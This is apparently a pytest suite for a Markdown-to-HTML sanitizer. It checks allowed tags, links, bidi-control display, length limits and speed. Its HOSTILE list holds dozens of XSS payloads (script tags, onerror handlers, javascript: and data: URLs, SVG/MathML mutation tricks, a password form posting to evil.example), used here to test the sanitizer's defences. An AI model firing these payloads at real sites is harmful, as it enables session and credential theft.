"""The rules of trainer.core.markup: what is rendered, and what never gets through."""

from __future__ import annotations

import html
import re
import time
from collections.abc import Callable
from html.parser import HTMLParser

import pytest
from hypothesis import given
from hypothesis import strategies as st

from trainer.core.markup import (
    CUT_MARK,
    FIELD_LIMIT,
    to_html,
    to_html_block,
    to_text,
)
from trainer.core.typography import french_spaces

Render = Callable[[str], str]

ALLOWED = {
    "a": {"href", "rel"},
    "ol": {"start"},
    **{tag: set[str]() for tag in ("em", "strong", "code", "br", "p", "ul", "li")},
}
WEB = re.compile(r"(?:https?://|mailto:)", re.IGNORECASE)

HOSTILE = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<script",
    "<script>alert(1)",
    "</script><script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<img src=x onerror=alert(1)//",
    '<img """><script>alert(1)</script>">',
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><a xlink:href=javascript:alert(1)><text>x</text></a></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<math href=javascript:alert(1)>x</math>",
    "<iframe src=javascript:alert(1)></iframe>",
    '<iframe srcdoc="<script>alert(1)</script>">',
    "<object data=data:text/html,<script>alert(1)</script>>",
    "<embed src=//evil.example>",
    "<base href=//evil.example/>",
    "<meta http-equiv=refresh content=0;url=javascript:alert(1)>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<style>*{background:url(//evil.example)}</style>",
    "<style><!--</style><script>alert(1)//--></script>",
    "<form action=//evil.example><input name=password></form>",
    "<body onload=alert(1)>",
    "<details open ontoggle=alert(1)>x</details>",
    "<video><source onerror=alert(1)></video>",
    "<p style=position:fixed>x</p>",
    '<a id=csrf_token name=body class=btn title="x">x</a>',
    "<a href=javascript:alert(1)>x</a>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<template><script>alert(1)</script></template>",
    "<!-- --!><script>alert(1)</script> -->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?xml version='1.0'?><script>alert(1)</script>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "&#x3c;img src=x onerror=alert(1)&#x3e;",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](&#106;avascript:alert(1))",
    "[x](&#x6A&#x61;vascript:alert(1))",
    "[x](java&#10;script:alert(1))",
    "[x](<java\tscript:alert(1)>)",
    "[x](\\javascript:alert(1))",
    "[x](vbscript:msgbox(1))",
    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[x](file:///etc/passwd)",
    "[x](blob:https://evil.example/1)",
    "[x](ftp://evil.example)",
    "[x](//evil.example)",
    "[x](/logout)",
    "[x](#top)",
    '[x](https://a.example "onmouseover=alert(1)")',
    '[x](https://a.example "\\"><script>alert(1)</script>")',
    '[x](https://a.example"onmouseover="alert(1))',
    "[x](<https://a.example\"onmouseover='alert(1)'>)",
    "[<script>alert(1)</script>](https://a.example)",
    "[a]: javascript:alert(1)\n\n[a]",
    "![x](https://evil.example/pixel.png)",
    "![x](javascript:alert(1))",
    '![x" onerror="alert(1)](y)',
    "<javascript:alert(1)>",
    "<data:text/html,x>",
    "`<script>alert(1)</script>`",
    "```html onload=alert(1)\n<script>alert(1)</script>\n```",
    "**<img src=x onerror=alert(1)>**",
    "*[x](javascript:alert(1)*)",
    "- <script>alert(1)</script>\n  - <svg onload=alert(1)>",
    "> <script>alert(1)</script>",
    "# <script>alert(1)</script>",
    "|<script>|\n|---|\n|<svg onload=alert(1)>|",
    "$\\href{javascript:alert(1)}{x}$",
    "{{ config }} {% raw %} ${7*7} {{#Front}}",
    "<div>" * 500 + "x",
    "*" * 300 + "x" + "*" * 300,
    "x\x00<script\x00>alert(1)</script>",
    "<\x0bscript>alert(1)</script>",
    "\u202e<script>alert(1)</script>",
    "\ud800<script>alert(1)</script>",
]


class TagReader(HTMLParser):
    """Collects what a browser would see as tags."""

    def __init__(self) -> None:
        super().__init__()
        self.found: list[tuple[str, dict[str, str | None]]] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.found.append((tag, dict(attrs)))

    def handle_comment(self, data: str) -> None:
        self.found.append(("!--", {}))

    def handle_decl(self, decl: str) -> None:
        self.found.append(("!", {}))

    def handle_pi(self, data: str) -> None:
        self.found.append(("?", {}))


def assert_harmless(markup: str) -> None:
    reader = TagReader()
    reader.feed(markup)
    for tag, attributes in reader.found:
        assert tag in ALLOWED
        assert set(attributes) <= ALLOWED[tag]
        assert WEB.match(attributes.get("href") or "https://")
        assert re.fullmatch(r"\d+", attributes.get("start") or "1")


# --- What is rendered ---------------------------------------------------------------


@pytest.mark.parametrize(
    ("md", "markup"),
    [
        ("", ""),
        ("  Data Engineer ", "Data Engineer"),
        ("qui *lit* et **charge**", "qui <em>lit</em> et <strong>charge</strong>"),
        ("`a < b` ou snake_case", "<code>a &lt; b</code> ou snake_case"),
        ("AT&T < 5 > 3", "AT&amp;T &lt; 5 &gt; 3"),
        ("\\*sans\\*", "*sans*"),
        ("coût\u00a0: *5*", "coût\u00a0: <em>5</em>"),
        ("fin&nbsp;! &eacute;", "fin\u00a0! é"),
        ("une  \nligne\nsuite", "une<br>\nligne\nsuite"),
        ("de 5$ à 6$ ou $x$", "de 5$ à 6$ ou $x$"),
        ("- un\n- deux", "- un\n- deux"),
        ("3) trois", "3) trois"),
        ("# dièse", "# dièse"),
        ("[note]: voir", "[note]: voir"),
        (
            "[doc](http://a.example/?x&y)",
            '<a href="http://a.example/?x&amp;y" rel="noopener noreferrer">doc</a>',
        ),
        (
            "<mailto:a@b.example>",
            '<a href="mailto:a@b.example" rel="noopener noreferrer">'
            "mailto:a@b.example</a>",
        ),
    ],
)
def test_a_text_in_a_line_has_emphasis_code_and_links(md: str, markup: str) -> None:
    assert to_html(md) == markup


@pytest.mark.parametrize(
    ("md", "markup"),
    [
        ("", ""),
        ("mot", "<p>mot</p>"),
        ("un\n\ndeux", "<p>un</p>\n<p>deux</p>"),
        ("- *un*\n- deux", "<ul>\n<li><em>un</em></li>\n<li>deux</li>\n</ul>"),
        (
            "3) trois\n4) quatre",
            '<ol start="3">\n<li>trois</li>\n<li>quatre</li>\n</ol>',
        ),
        ("# dièse\n---", "<p># dièse\n---</p>"),
        ("mot\n\n    retrait", "<p>mot</p>\n<p>retrait</p>"),
        ("> cité", "<p>&gt; cité</p>"),
    ],
)
def test_a_text_by_itself_has_paragraphs_and_lists_too(md: str, markup: str) -> None:
    assert to_html_block(md) == markup


@pytest.mark.parametrize(
    ("md", "text"),
    [
        ("", ""),
        ("  Data Engineer ", "Data Engineer"),
        ("qui *lit*, **charge** et `range`", "qui lit, charge et range"),
        ("[doc](https://a.example) <https://b.example>", "doc https://b.example"),
        ("AT&amp;T \\* <b>gras</b>", "AT&T * <b>gras</b>"),
        ("- un\n- deux  \ntrois", "- un\n- deux\ntrois"),
    ],
)
def test_the_plain_text_is_the_words_without_marks(md: str, text: str) -> None:
    assert to_text(md) == text


PLAIN = st.text(
    alphabet=st.one_of(
        st.sampled_from("aé’ \u00a0.,;:!?()/-+=%\"'#|~^${}→«»œ€😀אع"),
        st.characters(codec="utf-8", exclude_characters="\\`*_[]<>&"),
    )
).map(str.strip)


@given(PLAIN.filter(lambda text: bool(text) and not re.search(r"[\t\r\n]", text)))
def test_a_plain_text_gives_the_same_whichever_way_it_takes(text: str) -> None:
    """A mark elsewhere in the text sends it through the parser and the cleaner."""
    assert to_html(f"{text} *x*") == french_spaces(f"{to_html(text)} <em>x</em>")
    assert to_text(f"{text} *x*") == french_spaces(f"{to_text(text)} x")


@given(PLAIN)
def test_the_html_of_a_plain_text_says_its_words(text: str) -> None:
    assert html.unescape(to_html(text)).split() == to_text(text).split()


# --- What never gets through --------------------------------------------------------


@pytest.mark.parametrize("md", HOSTILE)
def test_a_hostile_text_leaves_allowed_tags_only(md: str) -> None:
    assert_harmless(to_html(md))
    assert_harmless(to_html_block(md))


@given(st.lists(st.sampled_from([*HOSTILE, "*", "`", "[", "](", ")", "<", ">", "\n"])))
def test_hostile_texts_mixed_leave_allowed_tags_only(pieces: list[str]) -> None:
    md = "".join(pieces)

    assert_harmless(to_html(md))
    assert_harmless(to_html_block(md))


@given(st.text())
def test_any_text_leaves_allowed_tags_only(md: str) -> None:
    assert_harmless(to_html(md))
    assert_harmless(to_html_block(md))


def test_raw_html_is_shown_as_the_words_it_is() -> None:
    assert to_html("<b>gras</b>") == "&lt;b&gt;gras&lt;/b&gt;"


@pytest.mark.parametrize(
    "code",
    [
        *(0x061C, 0x200E, 0x200F, *range(0x202A, 0x202F), *range(0x2066, 0x206A)),
        *(0x1B, 0x7F, 0x9B, 0xD800),
    ],
)
@pytest.mark.parametrize("render", [to_html, to_html_block, to_text])
def test_a_sign_that_deceives_the_reader_is_shown(code: int, render: Render) -> None:
    shown = render(f"Vrai {chr(code)} **Faux**")

    assert f"Vrai ⟦U+{code:04X}⟧ " in shown
    assert chr(code) not in shown


@pytest.mark.parametrize("render", [to_html, to_html_block, to_text])
def test_a_sign_that_deceives_is_shown_when_it_comes_as_an_entity(
    render: Render,
) -> None:
    assert "a ⟦U+202E⟧ b" in render("a &#x202e; b")


# --- Limits -------------------------------------------------------------------------


@pytest.mark.parametrize("render", [to_html, to_text])
def test_a_text_over_the_limit_is_cut_with_a_mark(render: Render) -> None:
    assert render("a" * FIELD_LIMIT) == "a" * FIELD_LIMIT
    assert render("a" * (FIELD_LIMIT + 1)) == "a" * FIELD_LIMIT + CUT_MARK


@pytest.mark.parametrize(
    "shape",
    [
        *("[", "![", "[[a]", "*a **a", "*_", "[a](", "<", "<a ", "&", "\\"),
        *("- ", "> ", "1. ", "a\n", "- a\n", "a\n\n", "[a]: b\n", "`a", "``"),
        *("a\u202e", "&#8238;"),
    ],
)
def test_a_megabyte_of_a_bad_shape_takes_seconds_at_most(shape: str) -> None:
    md = shape * (1_000_000 // len(shape))
    start = time.process_time()

    to_html_block(md)

    assert time.process_time() - start < 5


def test_an_item_text_renders_in_sixty_microseconds() -> None:
    texts = [
        "Créer un flux qui lit des fichiers chaque nuit, et les charge\u00a0?",
        "Le **Data Scientist** mesure des métriques pour comparer des modèles.",
    ]

    def microseconds() -> float:
        start = time.process_time()
        for _ in range(500):
            for text in texts:
                to_html(text)
        return (time.process_time() - start) * 1e6 / 1000

    assert min(microseconds() for _ in range(5)) < 60
